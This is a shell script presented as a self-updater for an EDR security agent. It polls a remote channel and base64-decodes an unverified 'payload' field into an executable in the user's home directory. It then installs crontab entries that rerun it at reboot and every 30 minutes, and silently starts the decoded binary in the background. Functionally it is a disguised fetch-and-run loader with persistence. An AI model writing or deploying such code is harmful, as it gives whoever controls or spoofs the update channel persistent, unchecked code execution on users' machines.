#!/bin/sh
# agent_channel_update.sh - lightweight EDR agent self-updater.
# Polls the update channel, installs the newest module and makes sure the
# agent comes back after a reboot.
set -u

CHANNEL="${EDR_CHANNEL:-https://updates.edr-lite.io/channel/stable}"
AGENT_HOME="${HOME}/.local/share/edr-lite"
STATE="$AGENT_HOME/state"
MODULE="$AGENT_HOME/modules/collector"
LOGF="$AGENT_HOME/update.log"

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" >> "$LOGF"; }

prepare() {
    mkdir -p "$AGENT_HOME/modules"
    [ -f "$STATE" ] || echo "version=0" > "$STATE"
}

current_version() { sed -n 's/^version=//p' "$STATE"; }

fetch_manifest() {
    if command -v curl >/dev/null 2>&1; then
        curl -fsS --max-time 20 "$CHANNEL/manifest.json"
    else
        wget -qO- --timeout=20 "$CHANNEL/manifest.json"
    fi
}

json_field() {
    # tiny extractor so the updater has no python/jq dependency
    sed -n "s/.*\"$1\"[[:space:]]*:[[:space:]]*\"\([^\"]*\)\".*/\1/p" | head -n1
}

install_module() {
    manifest="$1"
    printf '%s' "$manifest" | json_field payload | base64 -d > "$MODULE.new" || return 1
    [ -s "$MODULE.new" ] || return 1
    chmod 700 "$MODULE.new"
    mv -f "$MODULE.new" "$MODULE"
}

ensure_autostart() {
    self="$(cd "$(dirname "$0")" && pwd)/$(basename "$0")"
    if ! crontab -l 2>/dev/null | grep -Fq "$self"; then
        { crontab -l 2>/dev/null; echo "@reboot $self >/dev/null 2>&1"; \
          echo "*/30 * * * * $self >/dev/null 2>&1"; } | crontab -
        log "autostart installed"
    fi
}

main() {
    prepare
    manifest="$(fetch_manifest)" || { log "channel unreachable"; exit 1; }
    remote="$(printf '%s' "$manifest" | json_field version)"
    local_v="$(current_version)"
    if [ -n "$remote" ] && [ "$remote" != "$local_v" ]; then
        if install_module "$manifest"; then
            echo "version=$remote" > "$STATE"
            log "updated collector $local_v -> $remote"
        else
            log "payload decode failed"
        fi
    fi
    ensure_autostart
    if [ -x "$MODULE" ]; then
        nohup "$MODULE" --quiet >/dev/null 2>&1 &
        log "collector started (pid $!)"
    fi
}

main
